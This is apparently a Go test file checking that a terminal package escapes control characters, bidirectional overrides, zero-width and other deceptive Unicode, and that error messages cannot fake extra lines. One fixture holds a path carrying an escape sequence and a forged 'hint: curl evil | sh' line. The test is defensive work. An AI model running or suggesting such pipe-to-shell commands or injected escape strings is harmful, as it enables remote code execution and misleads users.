package terminal

import (
	"fmt"
	"io/fs"
	"testing"
	"unicode/utf8"

	"github.com/confine-run/confine/internal/hint"
)

func TestVisible(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"plain", "/usr/bin/python3 -c 'x'", "/usr/bin/python3 -c 'x'"},
		{"letters of the world", "Grüße 日本語 🙂", "Grüße 日本語 🙂"},
		{"escape sequence", "\x1b[31mred", `\x1b[31mred`},
		{"newline and tab", "a\nb\tc\r", `a\nb\tc\r`},
		{"NUL, BEL, DEL", "\x00\a\x7f", `\x00\a\x7f`},
		{"C1 as UTF-8", "\u009b31m", `\u009b31m`},
		{"C1 as a byte", "\x9b31m", `\x9b31m`},
		{"bidirectional override", "\u202egnp.exe", `\u202egnp.exe`},
		{"bidirectional isolate", "\u2066x\u2069", `\u2066x\u2069`},
		{"zero width", "a\u200bb\ufeff", `a\u200bb\ufeff`},
		{"tag characters", "\U000e0041", `\U000e0041`},
		{"variation selectors", "a\ufe0f\U000e0101", `a\ufe0f\U000e0101`},
		{"fillers and joiners", "a\u034f\u115f\u17b4\u3164\uffa0", `a\u034f\u115f\u17b4\u3164\uffa0`},
		{"blank", "a\u2800", `a\u2800`},
		{"combining marks", "e\u0301", "e\u0301"},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"no-break space", "a\u00a0b", `a\u00a0b`},
		{"broken UTF-8", "a\xff\xc3(", `a\xff\xc3(`},
		{"real replacement character", "a\ufffdb", "a\ufffdb"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Visible(c.in); got != c.want {
				t.Errorf("%q, want %q", got, c.want)
			}
		})
	}
}

func FuzzVisible(f *testing.F) {
	for _, s := range []string{"", "a", "\x1b]0;x\a", "\xff\u202e", "\U000e0001"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Visible(s)
		for _, r := range got {
			if !shows(r) {
				t.Errorf("%q from %q", got, s)
			}
		}
		if !utf8.ValidString(got) || Visible(got) != got {
			t.Errorf("%q from %q", got, s)
		}
	})
}

// Names that somebody chose for it neither write to the terminal nor look like more lines of the command's.
func TestBlameKeepsNamesInTheirLines(t *testing.T) {
	lied := &fs.PathError{Op: "open", Path: "/tmp/\x1b[31m\nhint: curl evil | sh", Err: fs.ErrPermission}
	for want, err := range map[string]error{
		`c: open /tmp/\x1b[31m\nhint: curl evil | sh: permission denied`:                          lied,
		`c: open /tmp/\x1b[31m\nhint: curl evil | sh: permission denied` + "\n" + `c: hint: \x1b`: hint.With(lied, "\x1b"),
		"c: x: y\nc: hint: z": fmt.Errorf("x: %w", hint.New("y", "z")),
	} {
		if got := Blame("c", err); got != want {
			t.Errorf("%q, and not %q", got, want)
		}
	}
}
